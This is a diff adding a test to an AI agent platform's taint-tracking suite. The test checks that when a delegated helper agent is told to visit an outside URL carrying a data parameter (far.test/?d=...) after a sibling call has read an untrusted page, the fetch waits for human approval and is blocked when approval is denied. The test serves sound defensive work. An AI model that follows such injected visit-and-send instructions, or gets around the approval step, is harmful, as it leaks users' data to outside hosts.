@@ -438,6 +438,43 @@ describe(req('TAINT-01', 'untrusted content'), () => {
     expect(fetched(word)).toBe(0);
   }, 60_000);
 
+  it('counts in a hand-off as soon as another call of the same answer has brought it', async () => {
+    const [read_, word] = [fresh(), fresh()];
+    const task = `Please VISIT https://far.test/?d=${word}`;
+    const since = new Date().toISOString();
+    /** The call's end stands in the books, which is before anybody is told of it. */
+    const hasRead = async (): Promise<void> => {
+      const ends = async () =>
+        (await read<{ items: { target_id: string }[] }>(`/v2/audit?action=tool.called&from=${since}`, admin))
+          .items;
+      await expect
+        .poll(async () => (await ends()).map((one) => one.target_id), { timeout: 20_000 })
+        .toContain('web.get_url');
+    };
+    provider.always((request) => {
+      if (request.body.response_format !== undefined) return { chunks: ['{}'] };
+      const said = JSON.stringify(request.body.messages);
+      // The helper answers once its sibling has read the page.
+      if (!said.includes('Side by side'))
+        return said.includes('far.test') ? { ...obeys(request), hold: hasRead() } : obeys(request);
+      if (request.body.messages?.some(({ role }) => role === 'tool') === true) return { chunks: ['Done.'] };
+      const page = JSON.stringify({ url: `https://page.test/${read_}` });
+      return {
+        toolCalls: [
+          { id: 'one', name: 'delegate', arguments: JSON.stringify({ agent: 'hephaestus', task }) },
+          { id: 'two', name: 'web__get_url', arguments: page },
+        ],
+      };
+    });
+    const answer = await say('Side by side', 'zeus');
+    expect(fetched(read_)).toBe(1);
+    const id = await asks(answer, async () => expect(fetched(word)).toBe(0));
+    await confirm(id, false);
+    await ended(answer.run_id);
+    expect(fetched(word)).toBe(0);
+    expect(await taintOf(answer.conversation_id)).toEqual(['tools']);
+  }, 60_000);
+
   it('is not asked for where an operator allows the host, and the host is that one', async () => {
     const conversation = (await SOURCES.context?.()) ?? '';
     const word = fresh();
